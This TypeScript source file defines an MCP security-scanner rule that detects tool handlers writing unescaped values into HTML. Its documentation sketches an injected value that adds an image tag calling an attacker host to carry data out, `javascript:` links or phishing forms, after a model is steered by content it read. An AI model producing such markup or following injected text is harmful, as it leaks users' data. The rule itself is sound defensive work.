// MV7105 (MCPSafe MCP-222): a tool result writes arguments or fetched text into raw HTML without escaping it.
import type { TaintFlow } from '../../../flow/taint.js';
import { defineRule, type ProjectContext, type RawFinding } from '../../../rule/rule.js';
import { selectFlows } from '../../../rule/taint-findings.js';
import { alsoText, describeHtmlPlace, EXFILTRABLE, firstPerSink, handlerFinding, htmlPlace, quoteContext, type HtmlPlace } from '../untrusted-content-flows.js';

/**
 * HTML escapers and sanitizers by the names code calls them. The concept tables do not yet list them as cleaning
 * tool output, so a handler — or a function the value passed through — whose code calls one is left alone rather
 * than reported for escaped values.
 */
const ESCAPER_CALL = /(?:\b(?:html\.escape|markupsafe\.escape|Markup\.escape|bleach\.clean|cgi\.escape|escape_html|escapeHtml|escapeHTML|he\.encode|he\.escape|sanitizeHtml|DOMPurify\.sanitize|xss|HTMLEscapeString|html\.EscapeString)|(?<![.\w])escape)[ \t]*\(/;

const EFFECT: Record<HtmlPlace['effect'], string> = {
  auto: 'loads or runs what the value carries as soon as it shows the result, without a click',
  click: 'follows the URL the value carries (a `javascript:` URL included) on a click, and a quote in it can add attributes',
  markup: 'shows whatever tags the value adds, including images that load without a click',
};

function escapesOnTheWay(ctx: ProjectContext, flow: TaintFlow): boolean {
  return [flow.sink.location, ...flow.via.map((v) => v.location)].some((l) => ctx.lines(l.path).slice(l.startLine - 1, l.endLine).some((line) => ESCAPER_CALL.test(line)));
}

export default defineRule({
  meta: {
    id: 'MV7105',
    slug: 'html-in-tool-output',
    title: 'Tool result writes unescaped values into HTML',
    category: 'output',
    severity: 'medium',
    confidence: 'medium',
    cwe: ['CWE-79', 'CWE-116'],
    owaspMcp: ['MCP06', 'MCP10'],
    aliases: ['MCP-222'],
    mode: 'deep',
    languages: ['python', 'typescript'],
    status: 'stable',
    message: '{source} reaches {api} in {sink}{via}{broken}{also}, written unescaped into {place} (after {context}); a client that renders the result as HTML {effect}',
    docs: {
      summary:
        'A tool or resource-template handler builds HTML — `<img src="…">`, `<a href="…">`, `<div>…</div>`, `<script>` — with a tool argument, fetched text, file contents or an environment value written into it as-is, so the value can add its own tags, attributes or URLs to the markup the client renders.',
      risk:
        'More and more MCP clients render HTML from tools: MCP-UI resources, `text/html` resource contents, chat clients that show tool output in a web view. Markup built from values the model chose or text fetched from the web lets that value close the attribute or element and add `<img src=https://attacker/?…>` (a zero-click request that can carry data out), `<a href=javascript:…>`, a `<form>` that phishes for credentials, or — where the client does not sandbox it — `<script>`. The model can be steered into sending such a value by any page or document it has read.',
      detection:
        'Deep mode only. Sources: tool arguments and resource-template variables, HTTP response bodies (`http-response`), database rows (`db-row`), file contents (`file-content`) and environment values (`env-secret`). Sink: what a tool or resource-template handler returns (`tool-output`), followed through helpers in other files, string building, containers and closures. It fires when the literal text right before the value contains an HTML element by its tag name (`<img`, `<a`, `<div>`, `<script`, `<iframe`, `</td>`; XML-style delimiters such as `<document>` or `<untrusted-content>` are not HTML elements and do not count); the message names the element and, when the value opens an attribute (`src="`), the attribute. One finding per handler, at the handler. Silenced by conversions to numbers or booleans, an allow-list check or an `enum`/strict `pattern` in the schema, and — until the concept tables list HTML escapers as cleaning tool output — by a handler, or a function the value passes through on its way (a helper in another file included), whose code calls an HTML escaper or sanitizer (Python `html.escape`, `markupsafe.escape`, `bleach.clean`; JavaScript `escape-html`, `he.encode`, `sanitize-html`, `DOMPurify.sanitize`). Limits: a handler or helper that escapes one value is not reported for another it leaves raw; the text before the value is what the last concatenation put right before it, so HTML built in one string and embedded in another is not recognised; markup produced by template engines with auto-escaping (Jinja2 with autoescape, `html/template`) is not a concatenation and is not reported.',
      fix:
        'Escape every value written into HTML for the place it goes: `html.escape(value, quote=True)` / `markupsafe.escape` in Python, `escape-html` or `he.encode` in JavaScript, and validate URLs put into `src`/`href` against an allow-list of schemes and hosts. Better, render with a template engine that escapes by default (Jinja2 with `autoescape=True`, `html/template`), or return plain text or structured content and let the client do the rendering. Serve HTML resources with a restrictive Content-Security-Policy where the client honours it.',
      references: [
        { title: 'CWE-79: Improper Neutralization of Input During Web Page Generation (XSS)', url: 'https://cwe.mitre.org/data/definitions/79.html' },
        { title: 'CWE-116: Improper Encoding or Escaping of Output', url: 'https://cwe.mitre.org/data/definitions/116.html' },
        { title: 'OWASP Cross Site Scripting Prevention Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html' },
        { title: 'Python html.escape', url: 'https://docs.python.org/3/library/html.html#html.escape' },
        { title: 'MCP specification 2025-11-25: Tools — security considerations', url: 'https://modelcontextprotocol.io/specification/2025-11-25/server/tools#security-considerations' },
      ],
    },
  },
  project: {
    detect(ctx) {
      const hits: { flow: TaintFlow; place: HtmlPlace }[] = [];
      for (const flow of selectFlows(ctx, { sinks: ['tool-output'], sources: EXFILTRABLE })) {
        const place = htmlPlace(flow.sink.context);
        // Escaped by a known escaper (the solver marks the flow), or by a helper named like one.
        if (place && !flow.marks?.includes('html-escaped') && !escapesOnTheWay(ctx, flow)) hits.push({ flow, place });
      }
      const out: RawFinding[] = [];
      for (const { flow, others } of firstPerSink(hits.map((h) => h.flow))) {
        const place = hits.find((h) => h.flow === flow)!.place;
        out.push(
          handlerFinding(flow, {
            also: alsoText(others),
            place: describeHtmlPlace(place),
            context: quoteContext(flow.sink.context!),
            effect: EFFECT[place.effect],
          }),
        );
      }
      return out;
    },
  },
});
